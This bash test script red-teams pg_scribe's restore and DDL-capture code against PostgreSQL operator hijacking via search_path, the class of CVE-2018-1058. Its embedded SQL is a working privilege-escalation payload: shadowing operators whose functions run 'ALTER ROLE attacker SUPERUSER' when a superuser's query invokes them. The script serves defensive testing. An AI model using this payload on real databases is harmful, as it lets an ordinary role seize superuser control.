#!/usr/bin/env bash
# Red team (DESIGN.md invariant 9): the restore's own catalog queries must
# not call operators or functions that a role of the backup created.
#
# pg_scribe --restore runs catalog queries of its own as the restoring
# superuser. Some of them compare with a bare "=" or "<" operands whose
# types have no exact operator in pg_catalog (oid = regclass, oid = regtype,
# real < integer: PostgreSQL finds pg_catalog's only through an implicit
# coercion). PostgreSQL's operator lookup takes an exact match anywhere on
# the search_path before any coercion (the class of CVE-2018-1058), so an
# operator =(oid, regclass) in a schema on the restorer's path wins.
#
# The restorer's path: after the base (RESET ALL) the session's default,
# "$user", public; during the diffs pg_catalog, "$user", public, pg_temp.
# "$user" is the restoring role: an ordinary role with CREATE on the
# database makes a schema called postgres (or any role with CREATE on
# public puts the operators there).
#
# Vectors:
#  - sync_sequences (cli/restore.cpp, run by every restore unless
#    --no-sync-sequences): d.classid = '...'::regclass, a.atttypid IN
#    ('...'::regtype, ...);
#  - create_lookup_index (cli/restore.cpp, run at the first UPDATE/DELETE
#    of a REPLICA IDENTITY FULL table without index): a.atttypid =
#    '...'::regtype, s.n_distinct < 0 (real < integer).
#
# The same class at the source, outside the restore path: pg_scribe's
# event trigger (scribe/ddl_capture.cpp) runs such queries in the session
# of whoever runs DDL, and the base's query (bgworker/base.cpp) at
# scribe.init: a superuser's migration or scribe.init runs the attacker's
# operator as the superuser.
#
# Expected (secure): no probe runs as postgres at the source or during
# either restore, and the attacker stays an ordinary role. On main at
# 3f6e277 every check of that fails.
set -euo pipefail
cd "$(dirname "$0")/../.."
source tests/lib/reliability.sh
CLUSTER_EXTRA_CONF="log_min_messages = warning"
start_throwaway_cluster restore_operator_capture
watchdog restore_operator_capture 300

backups=$work/backups
mkdir -p "$backups" "$work/cwd"
chown postgres: "$backups"
cd "$work/cwd"

q -d postgres -c "CREATE ROLE attacker LOGIN" >/dev/null
is_super() { psql -X -At -d postgres -c "SELECT rolsuper FROM pg_roles WHERE rolname = 'attacker'"; }
probes_as_super() { { tail -n +"$1" "$(server_log)" | grep -o 'scribe-probe [^ ]* current_user=postgres' || true; } | sort -u | tr '\n' ' '; }

# attacker_operators DB: the attacker's schema "postgres" (CREATE on the
# database suffices) with operators that pg_catalog has no exact match for.
attacker_operators() {
  psql -X -q -v ON_ERROR_STOP=1 -U attacker -d "$1" >/dev/null <<'SQL'
CREATE SCHEMA postgres;
CREATE FUNCTION postgres.pwn(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'attacker' AND rolsuper) THEN
    RAISE WARNING 'scribe-probe % current_user=%', what, current_user;
    BEGIN
      EXECUTE 'ALTER ROLE attacker SUPERUSER';
    EXCEPTION WHEN insufficient_privilege THEN NULL;
    END;
  END IF;
END$$;
CREATE FUNCTION postgres.eq_regclass(pg_catalog.oid, pg_catalog.regclass) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM postgres.pwn('oid=regclass'); RETURN $1 OPERATOR(pg_catalog.=) $2::pg_catalog.oid; END$$;
CREATE FUNCTION postgres.eq_regtype(pg_catalog.oid, pg_catalog.regtype) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM postgres.pwn('oid=regtype'); RETURN $1 OPERATOR(pg_catalog.=) $2::pg_catalog.oid; END$$;
CREATE FUNCTION postgres.lt_real_int(pg_catalog.float4, pg_catalog.int4) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM postgres.pwn('real<int'); RETURN $1 OPERATOR(pg_catalog.<) $2::pg_catalog.float4; END$$;
CREATE OPERATOR postgres.= (LEFTARG = pg_catalog.oid, RIGHTARG = pg_catalog.regclass, FUNCTION = postgres.eq_regclass);
CREATE OPERATOR postgres.= (LEFTARG = pg_catalog.oid, RIGHTARG = pg_catalog.regtype, FUNCTION = postgres.eq_regtype);
CREATE OPERATOR postgres.< (LEFTARG = pg_catalog.float4, RIGHTARG = pg_catalog.int4, FUNCTION = postgres.lt_real_int);
SQL
}

echo "-- at the source: pg_scribe's own queries in a superuser's session"
createdb srca
q -d srca -c "CREATE EXTENSION scribe" -c "GRANT CREATE ON DATABASE srca TO attacker" >/dev/null
attacker_operators srca
from=$(($(wc -l <"$(server_log)") + 1))
q -d srca -c "CREATE TABLE public.migration (id int PRIMARY KEY)" >/dev/null
n=$(probes_as_super "$from")
if [ -z "$n" ]; then ok "source: a superuser's DDL (scribe's DDL capture) ran no operator of the attacker"; else
  fail "source: a superuser's DDL ran the attacker's operator as the superuser (scribe/ddl_capture.cpp): $n"; fi
q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null
from=$(($(wc -l <"$(server_log)") + 1))
q -d srca -c "SELECT chain_id FROM scribe.init('$backups/srca', 'scribe_srca')" >/dev/null
n=$(probes_as_super "$from")
if [ -z "$n" ]; then ok "source: scribe.init (the base) ran no operator of the attacker"; else
  fail "source: scribe.init ran the attacker's operator as the superuser (bgworker/base.cpp): $n"; fi
q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null

echo "-- at the restore: the restore's own catalog queries"
createdb src
q -d src -c "CREATE EXTENSION scribe" -c "GRANT CREATE ON DATABASE src TO attacker" \
  -c "CREATE SCHEMA att AUTHORIZATION attacker" >/dev/null
# A REPLICA IDENTITY FULL table without index, with rows in the base and
# an UPDATE in the diffs: the restore builds its lookup index on it.
psql -X -q -v ON_ERROR_STOP=1 -U attacker -d src >/dev/null 2>&1 <<'SQL'
CREATE TABLE att.full_t (a int, b text);
ALTER TABLE att.full_t REPLICA IDENTITY FULL;
INSERT INTO att.full_t SELECT g, 'x' || g FROM generate_series(1, 50) g;
SQL
q -d src -c "SELECT chain_id FROM scribe.init('$backups/src', 'scribe_src')" >/dev/null
# Everything else in the diffs, all by the attacker (replayed confined).
from=$(($(wc -l <"$(server_log)") + 1))
attacker_operators src
psql -X -q -v ON_ERROR_STOP=1 -U attacker -d src -c "UPDATE att.full_t SET b = 'y' WHERE a = 1" >/dev/null
q -d src -c "SELECT * FROM scribe.rotate_diff()" >/dev/null
n=$(probes_as_super "$from")
if [ -z "$n" ] && [ "$(is_super)" = f ]; then ok "source: the attacker is still an ordinary role"; else
  fail "source: the attacker's operator ran as a superuser at the source: $n"; fi
q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null

restore_case() {
  local what=$1 target=$2 source=$3 from
  shift 3
  q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null
  from=$(($(wc -l <"$(server_log)") + 1))
  if "$PG_SCRIBE" --restore --create -d "$target" --backup-dir "$backups/$source" "$@" >"$work/$target.out" 2>&1; then
    ok "$what: pg_scribe --restore completes"
  else
    fail "$what: pg_scribe --restore failed: $(tail -3 "$work/$target.out")"
  fi
  tail -n +"$from" "$(server_log)" >"$work/$target.log"
  if [ "$(is_super)" = f ]; then ok "$what: the attacker is not a superuser after the restore"; else
    fail "$what: the restore made the attacker a superuser"; fi
  if grep -q 'scribe-probe .* current_user=postgres' "$work/$target.log"; then
    fail "$what: the attacker's operator ran as the restoring superuser: $(grep -o 'scribe-probe [^ ]*' "$work/$target.log" | sort -u | tr '\n' ' ')"
  else ok "$what: no operator of the attacker ran as the superuser"; fi
  dropdb --if-exists "$target"
}

restore_case "lookup index of a REPLICA IDENTITY FULL table (--no-sync-sequences)" r_lookup src --no-sync-sequences
restore_case "default restore of the same chain" r_default src

# sync_sequences alone: a chain with the operators, a serial column (with
# no sequence at all the planner skips the comparisons) and no REPLICA
# IDENTITY FULL table.
createdb srcs
q -d srcs -c "CREATE EXTENSION scribe" -c "GRANT CREATE ON DATABASE srcs TO attacker" \
  -c "CREATE TABLE public.counter (id serial PRIMARY KEY)" -c "INSERT INTO public.counter DEFAULT VALUES" >/dev/null
q -d srcs -c "SELECT chain_id FROM scribe.init('$backups/srcs', 'scribe_srcs')" >/dev/null
attacker_operators srcs
q -d srcs -c "SELECT * FROM scribe.rotate_diff()" >/dev/null
q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null
restore_case "sync_sequences at the end of a default restore" r_sync srcs
q -d postgres -c "ALTER ROLE attacker NOSUPERUSER" >/dev/null
finish restore_operator_capture
